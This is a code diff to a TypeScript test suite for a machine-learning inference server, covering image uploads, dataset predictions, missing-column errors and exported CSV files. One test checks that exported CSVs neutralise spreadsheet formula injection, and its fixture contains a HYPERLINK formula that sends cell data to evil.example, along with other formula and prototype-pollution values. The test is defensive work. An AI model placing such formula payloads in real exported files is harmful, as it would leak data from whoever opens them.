@@ -27,7 +27,7 @@ import {
 import { adaptApart } from '@tessera/inference'
 import type { SentFile } from '@tessera/server'
 import sharp from 'sharp'
-import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
 import { formOf } from '../../../../../packages/server/src/testing/form-of.ts'
 import { run } from '../../db/open.ts'
 import type { Browser } from '../../testing/browser.ts'
@@ -569,7 +569,7 @@ describe('pictures that are sent', () => {
     const { headers, payload } = formOf({ id: inferenceId }, (await sent()).slice(0, 1))
     const answer = await world.app.inject({
       ...{ method: 'POST', url: InferImages.path, payload },
-      headers: { ...headers, ...(await alice.headers('POST', InferImages.path)) },
+      headers: { ...headers, ...(await alice.headers('POST', InferImages.path, payload)) },
     })
     expect(answer.json()).toMatchObject({ success: true, code: 200 })
     expect(answer.json().result.flInferenceInfoVoList).toEqual([
@@ -616,7 +616,11 @@ describe('pictures that are sent', () => {
     const inferenceId = await created('pictures')
     const { headers, payload } = formOf({ id: inferenceId }, [{ name: '附件.png', content: Buffer.from('hello') }])
     const say = async (language: string) => {
-      const asked = { ...headers, ...(await alice.headers('POST', InferImages.path)), 'accept-language': language }
+      const asked = {
+        ...headers,
+        ...(await alice.headers('POST', InferImages.path, payload)),
+        'accept-language': language,
+      }
       return (await world.app.inject({ method: 'POST', url: InferImages.path, payload, headers: asked })).json().message
     }
     expect(await say('zh-CN')).toMatch(/^无法将“附件.png”读作图片。/)
@@ -626,12 +630,13 @@ describe('pictures that are sent', () => {
   test('another model takes none; what is no form is told so', async () => {
     const inferenceId = await created()
     await expect(send(inferenceId, await sent())).rejects.toMatchObject({ code: 'inference.not-pictures' })
-    const headers = { ...(await alice.headers('POST', InferImages.path)), 'content-type': 'application/json' }
+    const payload = { id: inferenceId }
+    const headers = { ...(await alice.headers('POST', InferImages.path, payload)), 'content-type': 'application/json' }
     const answer = await world.app.inject({
       method: 'POST',
       url: InferImages.path,
       headers,
-      payload: { id: inferenceId },
+      payload,
     })
     expect([answer.statusCode, answer.json().error]).toEqual([400, 'request.form-broken'])
   })
@@ -816,9 +821,9 @@ test('where the model looked in a picture of a dataset is told at the edge that 
 
   const row = { name: 'left.png', file: shown.rawPayload.toString('base64') }
   const { method, class: said, against, parts } = await world.call(ExplainRow, { inferenceId, row })
-  expect([method, said, against]).toEqual(['covered', 'cold', 'warm'])
+  expect([method, said, against]).toEqual(['covered', 'warm', 'cold'])
   // The model looks at the upper row: red there is warm, blue is cold.
-  expect(parts?.effects.map(Math.sign)).toEqual([-1, -1, -1, -1, 1, 1, 1, 1, ...Array.from({ length: 56 }, () => 0)])
+  expect(parts?.effects.map(Math.sign)).toEqual([1, 1, 1, 1, -1, -1, -1, -1, ...Array.from({ length: 56 }, () => 0)])
 
   const bob = person('bob')
   // One after the other: a refusal that comes while the other is waited for is nobody's.
@@ -907,6 +912,18 @@ test.each([
   expect(await statusOf(inferenceId)).toBe('created')
 })
 
+test.each([
+  ['Age,sex\n60,m\n', /no column “age”.*needs\. The nearest name in the dataset is “Age”/],
+  ['sex,years of age\nm,60\n', /no column “age”.*nearest name in the dataset is “years of age”/],
+  ['age\n60\n', /no column “sex”, which the model needs\. Add the column/],
+])('a dataset without a column of the model fails with its name and the nearest one: %j', async (csv, reason) => {
+  const { datasetId } = await world.dataSet(csv, `Lacking ${csv.length}`)
+  const inferenceId = await created()
+  await world.call(InferDataset, { inferenceId, datasetId })
+  await until(async () => (await statusOf(inferenceId)) === 'failed')
+  expect((await world.call(GetInference, { inferenceId })).inference.failure).toMatch(reason)
+})
+
 test('a whole dataset becomes a file that is opened in a session alone, by whoever may read its rows', async () => {
   const csv = `age,sex,ill\n${Array.from({ length: 5_000 }, (_, i) => `${i % 2 ? 80 : 20},m,${i % 4 === 1 ? '' : i % 2 ? 'yes' : 'no'}`).join('\n')}`
   const { datasetId } = await world.dataSet(csv, 'Cohort', person('alice'), { sharing: 'person' })
@@ -920,7 +937,7 @@ test('a whole dataset becomes a file that is opened in a session alone, by whoev
   const path = result?.resultPath ?? ''
   const csvOut = await world.fetchFile(`/${path}`)
   const lines = csvOut.body.split('\r\n')
-  expect(lines[0]).toBe('\uFEFFid,age,sex,ill,prediction,probability no,probability yes')
+  expect(lines[0]).toBe('\uFEFFid,age,sex,ill,prediction,probability no,probability yes,outside')
   expect(lines).toHaveLength(5_002)
   expect(lines[5_000]).toMatch(/^5000,80,m,yes,yes,/)
   expect(csvOut.headers['content-disposition']).toContain('attachment')
@@ -963,7 +980,9 @@ test('a dataset without the columns ends in a reason', async () => {
   await world.call(InferDataset, { inferenceId, datasetId })
   await until(async () => (await statusOf(inferenceId)) === 'failed')
   const { inference } = await world.call(GetInference, { inferenceId })
-  expect(inference.failure).toBe('A value for sex is missing.')
+  expect(inference.failure).toBe(
+    'The dataset has no column “sex”, which the model needs. Add the column or choose another dataset, then predict again.',
+  )
   // It can be tried again.
   expect(inference.abilities).toEqual({ run: true, delete: true })
 })
@@ -1117,6 +1136,20 @@ test('a model pulled before serves while the platform is away, and a job goes on
   await world.fake.comeBack()
 })
 
+test('a task whose model cannot be fetched while the platform is away is created once it is back', async () => {
+  const model = world.fake.models.get('m1')
+  if (model) world.fake.models.set('late', model)
+  await world.fake.goAway()
+  await until(() => !world.link.isConnected)
+  const fetched = vi.spyOn(world.deps.inference.platform, 'modelFile')
+  const inferenceId = await world.call(CreateInference, { modelId: 'late', name: 'Late', description: 'd' })
+  await until(() => fetched.mock.settledResults[0]?.type === 'rejected')
+  await world.fake.comeBack()
+  await until(() => findInference(world.db, inferenceId)?.status !== 'creating')
+  expect(findInference(world.db, inferenceId)).toMatchObject({ status: 'created', failure: null })
+  fetched.mockRestore()
+})
+
 test("a form's result takes the place of a dataset's, whose file goes", async () => {
   const { inferenceId, file } = await withDatasetResult()
   const wrong = world.call(Infer, { inferenceId, rows: [{ age: 'old', sex: 'm' }] })
@@ -1215,8 +1248,10 @@ test('what a spreadsheet would run is made harmless in cells, headers and classe
   ].join('\n')
   const { inferenceId, file } = await withDatasetResult(csv, 'formulas')
   const [header, ...rows] = linesOf(file)
-  expect(header).toBe("id,age,sex,'=SUM(A1),'-note,delta,code,prediction,probability =1+1,probability __proto__")
-  const cut = rows.map((row) => row.split(',').slice(0, -2).join(','))
+  expect(header).toBe(
+    "id,age,sex,'=SUM(A1),'-note,delta,code,prediction,probability =1+1,probability __proto__,outside",
+  )
+  const cut = rows.map((row) => row.split(',').slice(0, -3).join(','))
   expect(cut).toEqual([
     `1,99,m,"'=HYPERLINK(""http://evil.example/?""&A2,""ok"")",'+1 555,-1.5,-1.5,__proto__`,
     "2,1,m,'@SUM(1+1),'\ttab,-0.002,+7,'=1+1",
@@ -1224,7 +1259,7 @@ test('what a spreadsheet would run is made harmless in cells, headers and classe
   ])
   // Both classes keep their probabilities, whatever they are called.
   for (const row of rows) {
-    const [one, other] = row.split(',').slice(-2).map(Number)
+    const [one, other] = row.split(',').slice(-3, -1).map(Number)
     expect(one).toBeGreaterThan(0)
     expect((one ?? 0) + (other ?? 0)).toBeCloseTo(1, 12)
   }
@@ -1242,7 +1277,7 @@ test('a form’s answer keeps the probability of a class with any name', async (
 test('rows are told their clusters, by form and by dataset', async () => {
   const { inferenceId, file } = await withDatasetResult('age,sex\n61,m\n40,f\n', 'clusters')
   const lines = linesOf(file)
-  expect(lines[0]).toBe('id,age,sex,prediction,distance')
+  expect(lines[0]).toBe('id,age,sex,prediction,distance,outside')
   expect(lines.slice(1, 3)).toEqual([
     expect.stringMatching(/^1,61,m,1,0\.(1|09)/),
     expect.stringMatching(/^2,40,f,0,0/),
@@ -1268,9 +1303,9 @@ test('columns of the input keep their names, and ours get others', async () => {
   const [header, row] = linesOf(file)
   expect(header).toBe(
     'id,age,sex,Prediction,prediction (model),prediction (2),probability yes,' +
-      'prediction (model 2),probability no,probability yes (model)',
+      'prediction (model 2),probability no,probability yes (model),outside',
   )
-  expect(row).toMatch(/^1,99,m,a,b,c,d,yes,0\.\d+,0\.\d+$/)
+  expect(row).toMatch(/^1,99,m,a,b,c,d,yes,0\.\d+,0\.\d+,$/)
 })
 
 test('a result without anything to run says so by a count of none', async () => {
